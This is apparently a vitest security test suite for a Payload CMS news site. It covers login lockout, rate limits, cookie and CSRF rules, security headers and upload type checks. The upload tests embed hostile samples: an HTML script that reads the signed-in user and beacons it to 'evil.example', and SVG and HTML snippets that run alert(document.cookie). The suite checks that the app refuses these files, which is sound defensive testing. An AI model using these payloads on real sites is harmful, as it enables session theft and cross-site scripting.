/**
 * The security settings, through the app's own route handlers (REST and the public pages) as a
 * browser or an attacker would meet them, on an https site.
 */
import { createHash } from 'node:crypto'
import fs from 'node:fs'
import path from 'node:path'

import type { Payload } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { User } from '@/payload-types'

import { subscriberToken } from '../../src/subscribers/tokens'
import { authHeaders, createItem, createUser } from '../helpers/content'
import { pdfFile, pngFile } from '../helpers/files'
import { startTestPayload, type TestPayload } from '../helpers/payload'
import { rest } from '../helpers/rest'

const SITE = 'https://news.example.org'
const METRICS_TOKEN = 'metrics-token-for-the-security-tests'
const PASSWORD = 'a-long-test-password'
let ctx: TestPayload
let payload: Payload
let editor: User

beforeAll(async () => {
  ctx = await startTestPayload({ PUBLIC_URL: SITE, DELIVERY_CHANNELS: 'log', METRICS_TOKEN })
  payload = ctx.payload
  await payload.updateGlobal({ slug: 'site', data: { organisationName: 'Northfield Food Network' } })
  editor = await createUser(payload, 'editor', 'security-editor@example.org')
})
afterAll(async () => {
  await ctx?.stop()
})

let addresses = 0
/** A network address of its own, so one test's rate limits never meet another's. */
const fromNewAddress = () => ({ 'x-forwarded-for': `198.51.100.${++addresses}` })
const login = (email: string, password: string, headers: Record<string, string> = fromNewAddress()) => rest('POST', '/api/users/login', { json: { email, password }, headers })
const message = (response: { json?: Record<string, unknown> }) => (response.json?.errors as { message: string }[] | undefined)?.[0]?.message

describe('signing in', () => {
  it('locks an account after 5 wrong passwords: the 6th attempt and then the right password are refused as locked', async () => {
    const user = await createUser(payload, 'author', 'brute-force@example.org')
    const address = fromNewAddress()
    for (let attempt = 1; attempt <= 5; attempt++) {
      const refused = await login(user.email, `wrong-password-${attempt}`, address)
      expect(refused.status, `attempt ${attempt}`).toBe(401)
      expect(message(refused)).toBe('The email or password provided is incorrect.')
    }
    const sixth = await login(user.email, 'wrong-password-6', address)
    expect(sixth.status).toBe(401)
    expect(message(sixth)).toBe('This user is locked due to having too many failed login attempts.')
    // From anywhere, even with the right password, for the lock time (15 minutes).
    const right = await login(user.email, PASSWORD)
    expect(right.status).toBe(401)
    expect(message(right)).toBe('This user is locked due to having too many failed login attempts.')
    expect(right.headers.get('set-cookie')).toBeNull()
    const locked = await payload.findByID({ collection: 'users', id: user.id, showHiddenFields: true })
    expect(new Date(locked.lockUntil!).getTime() - Date.now()).toBeGreaterThan(14 * 60_000)
  })

  it('refuses an address after 20 failed sign-ins with a 429 and Retry-After; sign-ins that succeed do not count', async () => {
    const address = fromNewAddress()
    // Twenty staff behind one office address signing in: none held up, none counted.
    for (let n = 0; n < 20; n++) expect((await login(editor.email, PASSWORD, address)).status).toBe(200)
    // Twenty wrong guesses spread over accounts that do not exist (no account gets locked).
    for (let n = 0; n < 20; n++) expect((await login(`nobody-${n}@example.org`, 'guess', address)).status).toBe(401)
    const refused = await login(editor.email, PASSWORD, address)
    expect(refused.status).toBe(429)
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(message(refused)).toMatch(/^Too many failed sign-ins from your network\. Please try again in \d+ minute\(s\)\.$/)
    // Another address is not affected.
    expect((await login(editor.email, PASSWORD)).status).toBe(200)
  })

  it('refuses an address its 11th password-reset request in an hour (each one can send an email), with a 429 and Retry-After', async () => {
    const address = fromNewAddress()
    const reset = (n: number) => rest('POST', '/api/users/forgot-password', { json: { email: `someone-${n}@example.org` }, headers: address })
    for (let n = 0; n < 10; n++) expect((await reset(n)).status).toBe(200)
    const refused = await reset(10)
    expect(refused.status).toBe(429)
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(3000)
    expect(message(refused)).toMatch(/^Too many password reset requests from your network\./)
  })
})

describe('the session cookie', () => {
  const signIn = async () => {
    const response = await login(editor.email, PASSWORD)
    expect(response.status).toBe(200)
    return response.headers.get('set-cookie')!
  }

  it('counts as signed in only from the site’s origin (Payload csrf), with no CORS', () => {
    // Payload adds serverURL (PUBLIC_URL as written) to the list too: here the same origin.
    expect([...new Set(payload.config.csrf)]).toEqual([SITE])
    expect(payload.config.cors).toEqual([])
    expect(payload.collections.users.config.auth.cookies).toMatchObject({ secure: true, sameSite: 'Lax' })
  })

  it('is HttpOnly, SameSite=Lax and Secure on an https site', async () => {
    const cookie = await signIn()
    expect(cookie).toMatch(/^payload-token=[^;]+;/)
    expect(cookie).toMatch(/; HttpOnly/)
    expect(cookie).toMatch(/; SameSite=Lax/)
    expect(cookie).toMatch(/; Secure/)
  })

  it('signs in a request from the site’s own origin only: from a foreign Origin, cross-site or without either it is anonymous', async () => {
    const cookie = (await signIn()).split(';')[0]!
    const me = async (headers: Record<string, string>) => (await rest('GET', '/api/users/me', { headers: { cookie, ...headers } })).json!.user as User | null
    expect((await me({ origin: SITE }))?.email).toBe(editor.email)
    expect((await me({ 'sec-fetch-site': 'same-origin' }))?.email).toBe(editor.email)
    expect(await me({ origin: 'https://evil.example' })).toBeNull()
    expect(await me({ origin: 'http://news.example.org' })).toBeNull()
    expect(await me({ 'sec-fetch-site': 'cross-site' })).toBeNull()
    // A script elsewhere (no browser headers at all) must send the token as Authorization instead.
    expect(await me({})).toBeNull()

    // A cross-site form or fetch cannot act as the signed-in editor either.
    const item = await createItem(payload, 'announcements', { status: 'published' })
    const edit = await rest('PATCH', `/api/announcements/${item.id}`, { json: { title: 'Defaced' }, headers: { cookie, origin: 'https://evil.example' } })
    expect(edit.status).toBe(403)
    expect((await payload.findByID({ collection: 'announcements', id: item.id })).title).toBe(item.title)
  })

  it('answers no cross-origin reads (no CORS headers for a foreign Origin)', async () => {
    const response = await rest('GET', '/api/announcements', { headers: { origin: 'https://evil.example' } })
    expect(response.status).toBe(200)
    expect(response.headers.get('access-control-allow-origin')).toBeNull()
    expect(response.headers.get('access-control-allow-credentials')).toBeNull()
  })
})

type Page = { status: number; headers: Headers; html: string }
const read = async (response: Response): Promise<Page> => ({ status: response.status, headers: response.headers, html: await response.text() })
const request = (pathAndQuery: string, headers: Record<string, string> = {}, init: RequestInit = {}) => new Request(`${SITE}${pathAndQuery}`, { ...init, headers })

/** The strict policy a public page must carry, with the hash of the one inline style it holds. */
function expectStrictPage(page: Page, label: string) {
  const csp = page.headers.get('content-security-policy') ?? ''
  const style = /<style>([\s\S]*?)<\/style>/.exec(page.html)?.[1] ?? ''
  const hash = `sha256-${createHash('sha256').update(style).digest('base64')}`
  expect(csp, label).toBe(`default-src 'none'; style-src '${hash}'; img-src 'self' ${SITE}; form-action 'self'; base-uri 'none'; frame-ancestors 'none'`)
  // Nothing the policy would block: the page looks the same with it.
  expect(page.html, label).not.toMatch(/<script|\sstyle="|\son[a-z]+=/i)
  expect(page.html.match(/<style>/g), label).toHaveLength(1)
  expect(page.headers.get('x-content-type-options'), label).toBe('nosniff')
  expect(page.headers.get('strict-transport-security'), label).toBe('max-age=31536000')
  expect(page.headers.get('permissions-policy'), label).toBe('camera=(), microphone=(), geolocation=(), payment=(), usb=()')
}

describe('security headers of the public site', () => {
  it('every page type: no script, only its own style sheet, never framed, https kept, no sniffing', async () => {
    const item = await createItem(payload, 'announcements', { status: 'published', title: 'Urgent: the banner' })
    await payload.update({ collection: 'announcements', id: item.id, data: { urgency: 'urgent' } })
    const pages: [string, Page][] = [
      ['home', await read(await (await import('@/app/(site)/route')).GET(request('/')))],
      ['announcement', await read(await (await import('@/app/(site)/announcements/[slug]/route')).GET(request(`/announcements/${item.slug}`), { params: Promise.resolve({ slug: item.slug! }) }))],
      ['404', await read(await (await import('@/app/(site)/announcements/[slug]/route')).GET(request('/announcements/nothing'), { params: Promise.resolve({ slug: 'nothing' }) }))],
      ['archive', await read(await (await import('@/app/(site)/archive/route')).GET(request('/archive')))],
      ['subscribe', await read(await (await import('@/app/(site)/subscribe/route')).GET(request('/subscribe')))],
      ['sign-up error', await read(await (await import('@/app/(site)/subscribe/route')).POST(request('/subscribe', { 'content-type': 'application/x-www-form-urlencoded', ...fromNewAddress() }, { method: 'POST', body: 'email=not-an-address' })))],
      ['a bad unsubscribe link', await read(await (await import('@/app/(site)/unsubscribe/route')).GET(request('/unsubscribe?token=bad', fromNewAddress())))],
      ['an address nothing answers', await read(await (await import('@/app/(site)/[...path]/route')).GET(request('/no/such/page.php')))],
    ]
    expect(pages[0]![1].html).toContain('class="urgent-banner"')
    expect(pages[5]![1].html).toContain('class="notice error"')
    for (const [label, page] of pages) expectStrictPage(page, label)
    expect(pages[0]![1].headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
    expect(pages[6]![1].headers.get('referrer-policy')).toBe('no-referrer')
    // Not Next.js's own 404: the site's, in its look, for any method.
    expect(pages[7]![1].status).toBe(404)
    expect(pages[7]![1].html).toContain('<h1>Not found</h1>')
    expect(pages[7]![1].html).toContain('<header class="site">')
    expect((await (await import('@/app/(site)/[...path]/route')).POST(request('/wp-login.php', {}, { method: 'POST', body: 'log=admin' }))).status).toBe(404)
  })

  it('the feeds: no sniffing, https kept', async () => {
    const feed = await (await import('@/app/(site)/feed.xml/route')).GET(request('/feed.xml'))
    expect(feed.status).toBe(200)
    expect(feed.headers.get('x-content-type-options')).toBe('nosniff')
    expect(feed.headers.get('strict-transport-security')).toBe('max-age=31536000')
  })
})

describe('security headers of the answers that are no page', () => {
  it('feeds, the alerts feed, the probes and the metrics: nothing in them runs, loads or is framed; no referrer, no sniffing, https kept', async () => {
    const preferences = await import('@/app/(site)/preferences/route')
    const reader = await payload.create({ collection: 'subscribers', data: { email: 'big-form@example.net', status: 'confirmed' } })
    const token = subscriberToken('test-secret-that-is-long-enough-0123456789', 'preferences', reader.id)
    const metrics = await import('@/app/(ops)/metrics/route')
    const answers: [string, Response, number][] = [
      ['/feed.xml', await (await import('@/app/(site)/feed.xml/route')).GET(request('/feed.xml')), 200],
      ['/feed.json', await (await import('@/app/(site)/feed.json/route')).GET(request('/feed.json')), 200],
      ['/alerts.cap.xml', await (await import('@/app/(site)/alerts.cap.xml/route')).GET(request('/alerts.cap.xml')), 200],
      ['/healthz', await (await import('@/app/(ops)/healthz/route')).GET(), 200],
      ['/readyz', await (await import('@/app/(ops)/readyz/route')).GET(), 200],
      ['/metrics without the token', await metrics.GET(request('/metrics')), 401],
      ['/metrics', await metrics.GET(request('/metrics', { authorization: `Bearer ${METRICS_TOKEN}` })), 200],
      ['a preferences form over the limit', await preferences.POST(request(`/preferences?token=${token}`, fromNewAddress(), { method: 'POST', body: 'topics=x&'.repeat(4000) })), 413],
    ]
    for (const [label, answer, status] of answers) {
      expect(answer.status, label).toBe(status)
      expect(answer.headers.get('content-security-policy'), label).toBe("default-src 'none'; frame-ancestors 'none'")
      expect(answer.headers.get('referrer-policy'), label).toBe('no-referrer')
      expect(answer.headers.get('x-content-type-options'), label).toBe('nosniff')
      expect(answer.headers.get('permissions-policy'), label).toBe('camera=(), microphone=(), geolocation=(), payment=(), usb=()')
      expect(answer.headers.get('strict-transport-security'), label).toBe('max-age=31536000')
    }
  })
})

describe('rate limits of the pages for one person', () => {
  it('give an address 30 requests to a page in ten minutes, then a 429 page in the site’s look with Retry-After; a valid one-click unsubscribe still goes through', async () => {
    const preferences = await import('@/app/(site)/preferences/route')
    const address = fromNewAddress()
    for (let n = 0; n < 30; n++) expect((await preferences.GET(request(`/preferences?token=guess-${n}`, address))).status).toBe(400)
    const refused = await read(await preferences.GET(request('/preferences?token=guess-31', address)))
    expect(refused.status).toBe(429)
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(500)
    expect(refused.html).toContain('<h1>Too many requests</h1>')
    expect(refused.html).toMatch(/Please try again in 10 minutes\./)
    expect(refused.html).toContain('<header class="site"><div class="wrap"><a class="name" href="/">Northfield Food Network</a>')
    expectStrictPage(refused, 'the 429 page')
    // The limit is the address's: the form's POST shares it, another address is unaffected.
    expect((await preferences.POST(request('/preferences?token=guess', address, { method: 'POST', body: '' }))).status).toBe(429)
    expect((await preferences.GET(request('/preferences?token=guess'))).status).toBe(400)

    // Mail providers send many people's one-click unsubscribes from one address: valid ones are never refused.
    const unsubscribe = await import('@/app/(site)/unsubscribe/route')
    const provider = fromNewAddress()
    for (let n = 0; n < 30; n++) expect((await unsubscribe.POST(request('/unsubscribe?token=forged', provider, { method: 'POST', body: '' }))).status).toBe(400)
    expect((await unsubscribe.POST(request('/unsubscribe?token=forged', provider, { method: 'POST', body: '' }))).status).toBe(429)
    const reader = await payload.create({ collection: 'subscribers', data: { email: 'one-click@example.net', status: 'confirmed' } })
    const oneClick = await unsubscribe.POST(request(`/unsubscribe?token=${subscriberToken('test-secret-that-is-long-enough-0123456789', 'unsubscribe', reader.id)}`, provider, { method: 'POST', body: 'List-Unsubscribe=One-Click' }))
    expect(oneClick.status).toBe(200)
    expect((await payload.findByID({ collection: 'subscribers', id: reader.id })).status).toBe('unsubscribed')
  })

  it('apply to the confirmation link too', async () => {
    const address = fromNewAddress()
    for (let n = 0; n < 30; n++) expect((await rest('GET', `/api/subscribers/confirm?token=guess-${n}`, { headers: address })).status).toBe(400)
    const refused = await rest('GET', '/api/subscribers/confirm?token=guess', { headers: address })
    expect(refused.status).toBe(429)
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(refused.text).toContain('<h1>Too many requests</h1>')
  })
})

describe('uploads', () => {
  const stored = async () => {
    const counts = await Promise.all([payload.count({ collection: 'media' }), payload.count({ collection: 'documents' })])
    const files = ['media', 'documents'].flatMap((folder) => {
      const dir = path.join(ctx.dataDir, 'uploads', folder)
      return fs.existsSync(dir) ? fs.readdirSync(dir) : []
    })
    return { media: counts[0].totalDocs, documents: counts[1].totalDocs, files: files.length }
  }
  const upload = async (collection: 'media' | 'documents', bytes: Buffer | string, name: string, type: string) => {
    const form = new FormData()
    form.append('file', new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type }), name)
    form.append('_payload', JSON.stringify(collection === 'media' ? { alt: 'An image' } : { title: 'A report' }))
    return rest('POST', `/api/${collection}`, { body: form, headers: await authHeaders(payload, editor) })
  }
  const HTML = '<!doctype html><html><body><script>fetch("/api/users/me").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></body></html>'
  const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><script>alert(document.cookie)</script><rect width="8" height="8"/></svg>'

  it('refuse a file whose bytes are not the type it claims, with a 400, and store nothing', async () => {
    const before = await stored()
    const attempts: [string, 'media' | 'documents', string, string, string][] = [
      ['an HTML page as report.pdf', 'documents', HTML, 'report.pdf', 'application/pdf'],
      ['an SVG with a script as image.png', 'media', SVG, 'image.png', 'image/png'],
      ['an HTML page as photo.png', 'media', HTML, 'photo.png', 'image/png'],
      ['an HTML page as photo.jpg', 'media', HTML, 'photo.jpg', 'image/jpeg'],
      ['loose HTML (not XML) as photo.png', 'media', '<p>Hello<br><script>alert(1)</script>', 'photo.png', 'image/png'],
      ['plain text as photo.webp', 'media', 'just some words', 'photo.webp', 'image/webp'],
      ['plain text as report.pdf', 'documents', 'just some words', 'report.pdf', 'application/pdf'],
      ['a PDF as image.png', 'media', pdfFile().data.toString('latin1'), 'image.png', 'image/png'],
      ['an image as report.pdf', 'documents', (await pngFile()).data.toString('latin1'), 'report.pdf', 'application/pdf'],
    ]
    for (const [label, collection, bytes, name, type] of attempts) {
      const response = await upload(collection, Buffer.from(bytes, 'latin1'), name, type)
      expect(response.status, `${label}: ${response.text}`).toBe(400)
    }
    expect(await stored()).toEqual(before)
  })

  it('take a real PDF and a real image', async () => {
    const before = await stored()
    expect((await upload('documents', pdfFile().data, 'report.pdf', 'application/pdf')).status).toBe(201)
    expect((await upload('media', (await pngFile()).data, 'image.png', 'image/png')).status).toBe(201)
    const after = await stored()
    expect([after.documents - before.documents, after.media - before.media]).toEqual([1, 1])
  })
})
